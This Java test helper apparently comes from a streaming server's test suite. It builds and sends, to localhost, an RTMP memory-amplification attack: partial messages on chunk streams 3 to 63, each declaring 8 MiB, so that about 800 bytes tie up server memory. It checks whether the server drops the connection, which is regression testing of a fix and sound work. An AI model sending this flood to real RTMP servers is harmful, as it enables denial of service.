package io.ringcast.perf.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.Socket;

/**
 * The RTMP memory-amplification attack of issue 11 finding 4, from a raw socket: the simple handshake, Set Chunk
 * Size 1, then on each chunk stream 3..63 a type 0 message header declaring {@link #DECLARED_BYTES} and one byte of
 * payload. About 800 bytes on the wire, all before {@code connect}. The socket stays open until closed. Test thread.
 * <pre>
 *  basic header (1)   fmt 0 | csid
 *  message header (11) timestamp (3) | message length (3) | type id (1) | message stream id (4, little endian)
 * </pre>
 */
final class PartialMessageFlood implements AutoCloseable {
    /** The default {@code [rtmp] max_message_bytes}: the longest message the server accepts. */
    static final int DECLARED_BYTES = 8 << 20;
    static final int FIRST_CHUNK_STREAM_ID = 3;
    /** The last chunk stream id with a one-byte basic header. */
    static final int LAST_CHUNK_STREAM_ID = 63;
    private static final int HANDSHAKE_BYTES = 1536;
    private static final int RTMP_VERSION = 3;
    private static final int SET_CHUNK_SIZE = 1;
    /** A command (AMF0): what a client sends before and for connect, so the server must take it in. */
    private static final int COMMAND_AMF0 = 20;
    private static final int PROTOCOL_CONTROL_CHUNK_STREAM_ID = 2;

    private final Socket socket;
    private final int bytesSent;

    private PartialMessageFlood(Socket socket, int bytesSent) {
        this.socket = socket;
        this.bytesSent = bytesSent;
    }

    /** Connects from {@code sourceAddress}, handshakes and sends the partial messages. */
    static PartialMessageFlood send(String sourceAddress, int rtmpPort) throws IOException {
        Socket socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(sourceAddress, 0));
            socket.connect(new InetSocketAddress("127.0.0.1", rtmpPort), 5_000);
            socket.setSoTimeout(5_000);
            handshake(socket);
            byte[] attack = attackBytes();
            socket.getOutputStream().write(attack);
            socket.getOutputStream().flush();
            return new PartialMessageFlood(socket, attack.length);
        } catch (IOException e) {
            socket.close();
            throw e;
        }
    }

    private static void handshake(Socket socket) throws IOException {
        byte[] c0c1 = new byte[1 + HANDSHAKE_BYTES];
        c0c1[0] = RTMP_VERSION;
        socket.getOutputStream().write(c0c1);
        InputStream in = socket.getInputStream();
        byte[] s0s1s2 = in.readNBytes(1 + 2 * HANDSHAKE_BYTES);
        if (s0s1s2.length != 1 + 2 * HANDSHAKE_BYTES) {
            throw new IOException("short handshake answer: " + s0s1s2.length + " bytes");
        }
        socket.getOutputStream().write(s0s1s2, 1, HANDSHAKE_BYTES);
    }

    static byte[] attackBytes() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        header(out, PROTOCOL_CONTROL_CHUNK_STREAM_ID, 4, SET_CHUNK_SIZE, 0);
        out.writeBytes(new byte[] {0, 0, 0, 1});
        for (int csid = FIRST_CHUNK_STREAM_ID; csid <= LAST_CHUNK_STREAM_ID; csid++) {
            header(out, csid, DECLARED_BYTES, COMMAND_AMF0, 0);
            out.write(2); // AMF0 string marker: the start of a command name
        }
        return out.toByteArray();
    }

    private static void header(ByteArrayOutputStream out, int csid, int length, int typeId, int messageStreamId) {
        out.write(csid); // fmt 0 in the top two bits
        out.writeBytes(new byte[] {0, 0, 0});
        out.write(length >>> 16);
        out.write(length >>> 8);
        out.write(length);
        out.write(typeId);
        out.write(messageStreamId);
        out.writeBytes(new byte[] {0, 0, 0});
    }

    int bytesSent() {
        return bytesSent;
    }

    /** Whether the server closed this connection (end of stream or reset), waiting at most {@code timeoutMs}. */
    boolean closedByServer(long timeoutMs) {
        try {
            socket.setSoTimeout((int) timeoutMs);
            byte[] b = new byte[4096];
            long deadline = System.nanoTime() + timeoutMs * 1_000_000;
            while (System.nanoTime() < deadline) {
                if (socket.getInputStream().read(b) < 0) {
                    return true;
                }
            }
            return false;
        } catch (java.net.SocketTimeoutException e) {
            return false;
        } catch (IOException e) {
            return true;
        }
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
